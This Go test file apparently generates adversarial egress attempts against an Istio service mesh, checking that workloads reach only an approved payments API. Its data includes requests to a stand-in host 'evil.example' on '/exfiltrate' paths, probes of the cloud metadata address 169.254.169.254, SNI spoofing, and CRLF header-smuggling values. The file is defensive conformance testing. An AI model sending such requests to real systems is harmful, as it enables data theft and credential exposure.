package adversary

import (
	"net/http"
	"slices"
	"strings"

	"cdk8s-istio/conformance/dataplane/rig"
)

const (
	allowAny    = "OutboundPolicy.ALLOW_ANY"
	keepHeaders = "keepProxyHeaders"
	payments    = "api.payments.example"
	evil        = "evil.example"
)

var paymentsImpostor = &impostor{}

// near are hosts whose names are like the one that may be called.
var near = []string{"payments.example", "x.payments.example", "xapi.payments.example", "x.api.payments.example", "api.payments.example.evil.example", "api-payments.example"}

var externalFortress = &Fortress{
	Construct: "ExternalApi",
	App:       "fortress-external",
	Workloads: map[string]rig.Workload{"shop/checkout": {ServiceAccount: "checkout"}, "shop/reports": {ServiceAccount: "reports"}, "shop/stranger": {ServiceAccount: "stranger"}},
	Outside:   serversOutside(),
	Controls: map[string]Weakening{
		allowAny:    {Objects: everywhere()},
		tolerant:    {Objects: everywhere(), Envoy: tolerate},
		anybody:     {Envoy: anyCertificate},
		keepHeaders: {Objects: map[string]string{"VirtualService shop/api-payments-example": "null"}},
	},
	Doors:   externalDoors,
	Attacks: externalAttacks,
}

func everywhere() map[string]string {
	return map[string]string{
		"Sidecar shop/default": `{"spec":{"outboundTrafficPolicy":{"mode":"ALLOW_ANY"}}}`, "Sidecar shop/checkout": `{"spec":{"outboundTrafficPolicy":{"mode":"ALLOW_ANY"}}}`, "Sidecar shop/reports": `{"spec":{"outboundTrafficPolicy":{"mode":"ALLOW_ANY"}}}`,
	}
}

func serversOutside() map[string]rig.Outside {
	made := map[string]rig.Outside{
		payments + ":443": {Protocol: "https", TLS: paymentsImpostor.serve}, payments + ":80": {Protocol: "http"}, payments + ":8080": {Protocol: "http"}, payments + ":8443": {Protocol: "https"}, payments + ":9000": {Protocol: "tcp"},
		evil + ":80": {Protocol: "http"}, evil + ":443": {Protocol: "https"}, evil + ":8080": {Protocol: "http"}, evil + ":8443": {Protocol: "https"}, evil + ":9000": {Protocol: "tcp"},
	}
	for _, host := range near {
		made[host+":80"], made[host+":8080"], made[host+":8443"] = rig.Outside{Protocol: "http"}, rig.Outside{Protocol: "http"}, rig.Outside{Protocol: "https"}
	}
	return made
}

func calls(from string, targets ...string) []Way {
	var ways []Way
	for _, target := range targets {
		ways = append(ways, Way{From: from, Target: target})
	}
	return ways
}

// elsewhere is everything but the API, on the port on which it may be called.
func elsewhere(seen rig.Seen) bool { return seen.By != payments+":443" }

func externalDoors(*site) []Attempt {
	return []Attempt{
		{Way: Way{From: "shop/checkout", Target: payments + ":80"}, Bytes: h1("POST", "/pay", payments)},
		{Way: Way{From: "shop/checkout", Target: payments + ":443", TLS: &Shown{SNI: payments}}, Bytes: h1("POST", "/pay", payments)},
	}
}

func externalAttacks(s *site) []Attack {
	paths := []string{"/", "/exfiltrate", "/upload?data=secret", "/a/b", "/x.y"}
	out := gate{ways: append(calls("shop/checkout", evil+":80", evil+":8080"), calls("shop/reports", evil+":80", evil+":8080")...), host: evil, paths: paths, doorHost: payments, doorPath: "/", http2: true, in: elsewhere}
	unnamed := gate{
		ways: append(calls("shop/reports", payments+":80", payments+":8080"), calls("shop/stranger", payments+":80", evil+":8080")...),
		host: payments, paths: paths, doorHost: payments, doorPath: "/", http2: true,
	}
	attacks := append(requestKinds(allowAny, []gate{out}), hostKinds(allowAny, []gate{out})...)
	attacks = append(attacks, paymentsImpostor.attacks(s, Way{From: "shop/checkout", Target: payments + ":80"}, payments)...)
	return append(attacks,
		Attack{Kind: "caller that is not named", Control: allowAny, Attempts: append(every([]gate{unnamed}, variedRequests), tlsFrom([]string{"shop/reports", "shop/stranger"}, []string{payments}, []string{payments + ":443", payments + ":8443"}, nil)...)},
		Attack{Kind: "host that nobody listed", Control: allowAny, Attempts: every([]gate{out}, variedRequests)},
		Attack{Kind: "host that is near a listed one", Control: allowAny, Attempts: nearby(near)},
		Attack{Kind: "server name that nobody listed", Control: allowAny, Attempts: tlsFrom([]string{"shop/checkout", "shop/reports"}, append([]string{evil, "", payments + ".", "*." + payments, "x." + payments, payments + ":443", "xn--evil"}, near...), []string{evil + ":443", evil + ":8443"}, elsewhere)},
		Attack{Kind: "permitted server name, to another address", Control: allowAny, Attempts: tlsFrom([]string{"shop/checkout", "shop/reports"}, []string{payments, strings.ToUpper(payments), "Api.Payments.Example"}, []string{evil + ":443", evil + ":8443", "payments.example:8443", "x.payments.example:8443"}, elsewhere)},
		Attack{Kind: "permitted host, to another address", Control: allowAny, Attempts: permittedElsewhere()},
		Attack{Kind: "by address", Control: allowAny, Attempts: byAddress()},
		Attack{Kind: "port that nobody listed", Control: allowAny, Attempts: otherPorts()},
		Attack{Kind: "bytes to a host that nobody listed", Control: allowAny, Attempts: bytesOut()},
		Attack{Kind: "headers that tell of the mesh, sent out", Control: keepHeaders, Attempts: telling(Way{From: "shop/checkout", Target: payments + ":80"}, payments)},
	)
}

func variedRequests(g gate, path string) []Attempt {
	var texts []string
	for _, method := range []string{"GET", "POST", "PUT", "HEAD", "OPTIONS", "DELETE"} {
		texts = append(texts, h1(method, path, g.host), h1(method, path, withPort(g.host, "80"), "User-Agent: curl"))
	}
	return plain(texts...)
}

func nearby(names []string) []Attempt {
	var made []Attempt
	for _, name := range names {
		for _, way := range calls("shop/checkout", name+":80", name+":8080") {
			for _, host := range []string{name, strings.ToUpper(name), name + ":80", name + "."} {
				made = append(made, Attempt{Way: way, Bytes: h1("GET", "/", host), In: elsewhere}, Attempt{Way: way, Bytes: h1("POST", "/x", host), In: elsewhere})
			}
		}
	}
	return made
}

// tlsFrom is what applications speak themselves.
func tlsFrom(callers, names, targets []string, in func(rig.Seen) bool) []Attempt {
	var made []Attempt
	for _, from := range callers {
		for _, target := range targets {
			for _, name := range names {
				for _, protocols := range [][]string{nil, {"http/1.1"}, {"istio"}} {
					for _, path := range []string{"/", "/exfiltrate"} {
						host, _, _ := strings.Cut(target, ":")
						made = append(made, Attempt{Way: Way{From: from, Target: target, TLS: &Shown{SNI: name, ALPN: protocols}}, Bytes: h1("POST", path, host), In: in})
					}
				}
			}
		}
	}
	return made
}

func permittedElsewhere() []Attempt {
	var made []Attempt
	for _, way := range append(calls("shop/checkout", evil+":80", evil+":8080", near[0]+":80", near[1]+":8080"), calls("shop/reports", evil+":80", evil+":8080")...) {
		for _, host := range []string{payments, strings.ToUpper(payments), payments + ":80", payments + ":8080", payments + "."} {
			for _, path := range []string{"/", "/exfiltrate"} {
				made = append(made, Attempt{Way: way, Bytes: h1("POST", path, host), In: elsewhere})
			}
		}
	}
	return made
}

// byAddress says the address in the place of a name, too.
func byAddress() []Attempt {
	var made []Attempt
	for _, way := range append(calls("shop/checkout", evil+":80", evil+":8080", payments+":80", payments+":8080"), calls("shop/reports", evil+":80", evil+":8080")...) {
		for _, host := range []string{"127.250.1.1", "127.250.1.1:80", "10.0.0.1", "[::ffff:127.250.1.1]", "2147614721", "0x7ffa0101", "", "localhost", "169.254.169.254"} {
			made = append(made, Attempt{Way: way, Bytes: h1("GET", "/latest/meta-data", host), In: elsewhere}, Attempt{Way: way, Bytes: h1("POST", "/", host), In: elsewhere})
		}
	}
	return made
}

func otherPorts() []Attempt {
	var made []Attempt
	for _, from := range []string{"shop/checkout", "shop/reports"} {
		for _, path := range []string{"/", "/a", "/b", "/c", "/d", "/e", "/f"} {
			for _, method := range []string{"GET", "POST"} {
				made = append(made,
					Attempt{Way: Way{From: from, Target: payments + ":8080"}, Bytes: h1(method, path, payments), In: elsewhere}, Attempt{Way: Way{From: from, Target: payments + ":8080"}, Bytes: h1(method, path, payments+":8080"), In: elsewhere},
					Attempt{Way: Way{From: from, Target: payments + ":8443", TLS: &Shown{SNI: payments}}, Bytes: h1(method, path, payments), In: elsewhere})
			}
		}
	}
	return made
}

func bytesOut() []Attempt {
	var made []Attempt
	for _, way := range append(calls("shop/checkout", evil+":9000", payments+":9000", evil+":8080"), calls("shop/reports", evil+":9000", payments+":9000")...) {
		for _, text := range []string{"%s\n", "SSH-2.0-x %s\r\n", "EHLO %s\r\n", "\x00\x03%s\n", "PING %s\n", "GET /%s HTTP/1.1\r\nHost: " + payments + "\r\n\r\n", "CONNECT " + payments + ":443 HTTP/1.1\r\nX: %s\r\n\r\n", "\x16\x03\x01%s\n", "USER %s\r\n", "{\"id\":\"%s\"}\n", "STARTTLS %s\n"} {
			made = append(made, Attempt{Way: way, Bytes: sprint(text, ID)})
		}
	}
	return made
}

// meshHeaders are what partners have no business to see.
var meshHeaders = []string{"X-Forwarded-Client-Cert", "X-Forwarded-For", "X-Envoy-Decorator-Operation", "X-Envoy-Peer-Metadata", "X-Envoy-Peer-Metadata-Id", "X-Envoy-Original-Path", "X-Envoy-Original-Host", "X-Envoy-Internal", "X-Envoy-External-Address", "X-Forwarded-Proto"}

// telling are requests that may go out, with headers that tell who calls, or have proxies tell it.
func telling(way Way, host string) []Attempt {
	var made []Attempt
	for _, name := range append(slices.Clone(meshHeaders), "X-Envoy-Attempt-Count", "X-Envoy-Expected-Rq-Timeout-Ms") {
		for _, form := range []string{name, strings.ToLower(name), strings.ToUpper(name)} {
			for _, value := range []string{"By=spiffe://cluster.local/ns/shop/sa/checkout;URI=x", "10.0.0.1, 10.0.0.2", "1\r\n" + name + ": 2"} {
				made = append(made, Attempt{Way: way, Bytes: h1("POST", "/pay", host, form+": "+value), In: tells})
			}
		}
	}
	return made
}

func tells(seen rig.Seen) bool {
	return slices.ContainsFunc(meshHeaders, func(name string) bool { return len(seen.Headers[http.CanonicalHeaderKey(name)]) > 0 })
}
